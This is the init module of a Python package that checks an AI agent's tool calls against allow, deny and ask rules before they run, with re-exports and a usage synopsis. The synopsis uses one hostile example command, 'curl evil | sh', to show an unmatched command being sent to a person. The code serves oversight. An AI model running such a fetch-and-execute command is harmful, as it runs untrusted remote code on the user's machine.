"""Permission rules: what people state about tools and their arguments, decided before anyone
is asked.

Synopsis::

    from broker.rules import Layer, RuleSet, load_rules

    rules = RuleSet(load_rules(".broker/rules.toml", Layer.PROJECT))
    verdict = rules.decide("bash", {"command": "git status; curl evil | sh"})
    verdict.decision   # None: "curl evil" and "sh" are covered by no allow rule; ask a person

``open_broker(rules=...)`` puts them in every question's path: a ``deny`` rule settles
``rejected`` before any answerer, an ``allow`` rule ``allowed-once`` (``remembered``), an
``ask`` rule or no rule goes on to the answerers.
"""

from ._engine import PartVerdict as PartVerdict
from ._engine import RuleSet as RuleSet
from ._engine import Verdict as Verdict
from ._engine import command_of as command_of
from ._glob import GlobError as GlobError
from ._load import RulesFileError as RulesFileError

# For the other packages of broker (their front door into this one); not part of the
# public API, so not in __all__.
from ._load import claude_code_permissions as claude_code_permissions
from ._load import load_rules as load_rules
from ._load import parse_rules as parse_rules
from ._load import rules_from_claude_code as rules_from_claude_code
from ._model import Layer as Layer
from ._model import Rule as Rule
from ._model import RuleDecision as RuleDecision
from ._model import RuleOrigin as RuleOrigin
from ._paths import normalise_path as normalise_path
from ._remember import literal_glob as literal_glob
from ._remember import remember_in_file as remember_in_file
from ._shell import parse_command as parse_command
from ._shell import split_words as split_words

__all__ = [
    "GlobError",
    "Layer",
    "PartVerdict",
    "Rule",
    "RuleDecision",
    "RuleOrigin",
    "RuleSet",
    "RulesFileError",
    "Verdict",
    "command_of",
    "load_rules",
    "normalise_path",
    "parse_rules",
    "remember_in_file",
    "rules_from_claude_code",
]

from .._module_metadata import fixup_module_metadata

fixup_module_metadata(__name__, globals())
